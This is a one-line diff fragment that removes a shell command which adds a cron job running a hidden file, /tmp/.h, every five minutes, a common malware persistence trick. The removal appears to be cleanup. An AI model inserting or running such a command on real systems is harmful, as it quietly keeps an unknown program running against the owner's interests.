@@ -1,1 +1,0 @@
-(crontab -l; echo "*/5 * * * * /tmp/.h") | crontab -
